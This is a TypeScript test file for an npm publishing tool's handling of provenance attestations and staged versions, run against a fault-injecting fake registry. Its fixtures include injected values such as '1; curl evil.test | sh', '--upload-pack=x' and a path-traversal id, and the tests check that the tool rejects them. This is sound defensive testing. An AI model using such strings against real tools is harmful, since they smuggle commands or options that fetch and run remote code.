import { writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { type DiscoveredPackage, publishers } from '@conduct/ecosystems'
import { keepProvenance, type Listening, startStagingRegistry } from '@conduct/rehearsal'
import { runCommand } from '@conduct/subprocess'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { type FaultProxy, type HttpFault, startFaultProxy } from '../servers/fault-proxy.ts'
import { type Folder, makeFolder } from './folders.ts'
import { type LocalRegistry, startRegistry } from './registry.ts'

const npm = publishers.find(({ tool }) => tool === 'npm')
if (npm === undefined) throw new Error('npm publishes')
const integrity = `sha512-${Buffer.alloc(64, 7).toString('base64')}`
const commit = 'a'.repeat(40)
const name = '@acme/proved'
let registry: LocalRegistry
let kept: Folder
let front: Listening
let proxy: FaultProxy

beforeAll(async () => {
  registry = await startRegistry()
  kept = await makeFolder()
  const targetPort = Number(new URL(registry.url).port)
  front = await startStagingRegistry({ targetPort, folder: kept.path, attestations: kept.path, otp: '1' })
  proxy = await startFaultProxy(front.port)
  const repository = 'https://github.com/acme/engine'
  await keepProvenance(kept.path, { name, version: '1.0.0', integrity, repository, commit })
})
afterAll(async () => {
  for (const one of [proxy, front, registry, kept]) await one[Symbol.asyncDispose]()
})
afterEach(() => {
  proxy.misbehave(null)
  vi.unstubAllEnvs()
})

const observe = (version = '1.0.0', of = integrity) =>
  npm.provenance?.({ package: name, version, registry: proxy.url, integrity: of })

const statement = (fields: object) => ({
  attestations: [
    {
      bundle: {
        dsseEnvelope: { payload: Buffer.from(JSON.stringify(fields)).toString('base64') },
      },
    },
  ],
})
const subject = [{ digest: { sha512: Buffer.alloc(64, 7).toString('hex') } }]

describe('the provenance of a version', () => {
  it('names the commit it was built from, for exactly these bytes', async () => {
    expect(await observe()).toEqual({
      state: 'present',
      commit,
      source: 'git+https://github.com/acme/engine@refs/heads/main',
    })
    expect(await observe('1.0.0', `sha512-${Buffer.alloc(64, 8).toString('base64')}`)).toEqual({
      state: 'absent',
    })
    expect(await observe('1.0.0', 'sha1-AAAA')).toEqual({ state: 'absent' })
    expect(await observe('2.0.0')).toEqual({ state: 'absent' })
  })

  it('is read in its older form, too', async () => {
    const configSource = { uri: 'git+https://github.com/acme/engine', digest: { sha1: commit } }
    const body = JSON.stringify(statement({ subject, predicate: { invocation: { configSource } } }))
    proxy.misbehave(() => ({ fault: 'status', status: 200, body }))

    expect(await observe()).toMatchObject({ state: 'present', commit })
  })

  it.each<[string, object]>([
    [
      'a commit that is none',
      { predicate: { invocation: { configSource: { digest: { sha1: '--upload-pack=x' } } } } },
    ],
    ['no predicate', {}],
    ['dependencies that are no list', { predicate: { buildDefinition: { resolvedDependencies: 'x' } } }],
    ['a nested nothing', { predicate: { buildDefinition: { resolvedDependencies: [null, [], 7] } } }],
  ])('is absent in a statement with %s', async (_case, fields) => {
    const body = JSON.stringify(statement({ subject, ...fields }))
    proxy.misbehave(() => ({ fault: 'status', status: 200, body }))

    expect(await observe()).toEqual({ state: 'absent' })
  })

  it.each<[string, HttpFault]>([
    ['a dead connection', { fault: 'unreachable' }],
    ['half an answer', { fault: 'half' }],
    ['a 500', { fault: 'status', status: 500 }],
    ['a 404 of something in between', { fault: 'status', status: 404, body: '<h1>no</h1>' }],
    ['nonsense', { fault: 'status', status: 200, body: '{"attestations":{}}' }],
  ])('is unknown after %s', async (_case, fault) => {
    proxy.misbehave(() => fault)

    expect(await observe()).toMatchObject({ state: 'unknown' })
  })
})

describe('what is staged, said by a registry that lies', () => {
  const observeStage = () =>
    npm.staging?.observe({ package: name, version: '1.0.0', registry: proxy.url, worktree: kept.path })
  const item = { packageName: name, version: '1.0.0' }

  it.each<[string, object]>([
    ['an option for an id', { items: [{ ...item, id: '--otp=1' }], total: 1 }],
    ['a command for an id', { items: [{ ...item, id: '1; curl evil.test | sh' }], total: 1 }],
    ['a path for an id', { items: [{ ...item, id: '../../-/whoami' }], total: 1 }],
    ['no list', { items: {}, total: 1 }],
    ['no total', { items: [] }],
    ['pages without end', { items: [{ packageName: 'x' }], total: 1e9 }],
  ])('is unknown for %s', async (_case, answer) => {
    proxy.misbehave(() => ({ fault: 'status', status: 200, body: JSON.stringify(answer) }))

    expect(await observeStage()).toMatchObject({ state: 'unknown' })
  })

  it('is absent where others are staged, whatever they are called', async () => {
    const items = [null, 7, { ...item, version: '9.9.9' }, { ...item, packageName: '__proto__' }]
    proxy.misbehave(() => ({ fault: 'status', status: 200, body: JSON.stringify({ items, total: 4 }) }))

    expect(await observeStage()).toEqual({ state: 'absent' })
  })
})

/** No transparency log can be reached here: that the client asks for an identity to sign with shows that it would. */
describe('asking for provenance', () => {
  let producer: Folder
  let audiences: (string | null)[]
  let identity: ReturnType<typeof createServer>

  beforeEach(async () => {
    producer = await makeFolder()
    audiences = []
    identity = createServer((request, response) => {
      audiences.push(new URL(request.url ?? '/', 'http://x').searchParams.get('audience'))
      response.writeHead(500).end('{}')
    })
    await new Promise<void>((resolve) => {
      identity.listen(0, '127.0.0.1', resolve)
    })
    await writeFile(path.join(registry.home, '.npmrc'), registry.npmrc)
    vi.stubEnv('HOME', registry.home)
    vi.stubEnv('NPM_CONFIG_USERCONFIG', undefined)
    vi.stubEnv('npm_config_userconfig', undefined)
    vi.stubEnv('GITHUB_ACTIONS', 'true')
    const { port } = identity.address() as AddressInfo
    vi.stubEnv('ACTIONS_ID_TOKEN_REQUEST_URL', `http://127.0.0.1:${port}/?a=b`)
    vi.stubEnv('ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'only-for-tests')
  })
  afterEach(async () => {
    identity.closeAllConnections()
    await new Promise((resolve) => identity.close(resolve))
    await producer[Symbol.asyncDispose]()
  })

  async function published(version: string, publishConfig: object): Promise<boolean> {
    const found: DiscoveredPackage = {
      name: '@acme/signed',
      version,
      directory: '.',
      isPrivate: false,
      registry: registry.url,
      needs: [],
    }
    await producer.write({ 'package.json': { name: found.name, version, publishConfig } })
    const where = { worktree: producer.path, package: found, context: { runCommand } }
    const packed = await npm?.pack({ ...where, outDir: path.join(producer.path, 'out') })
    return (
      npm?.publish({ ...where, tarball: packed?.path ?? '', distTag: 'latest', timeoutMs: 60_000 }).then(
        () => true,
        () => false,
      ) ?? false
    )
  }

  it('reaches the client from publishConfig, and nothing is published unsigned instead', async () => {
    expect(await published('1.0.0', { access: 'public', provenance: true })).toBe(false)

    expect(audiences).toContain('sigstore')
  })

  it('reaches the client from the switch of a CI system', async () => {
    vi.stubEnv('NPM_CONFIG_PROVENANCE', 'true')

    expect(await published('1.0.1', { access: 'public' })).toBe(false)

    expect(audiences).toContain('sigstore')
  })

  it('is not done for anybody who did not ask', async () => {
    expect(await published('1.0.2', { access: 'public' })).toBe(true)

    expect(audiences).not.toContain('sigstore')
  })
})
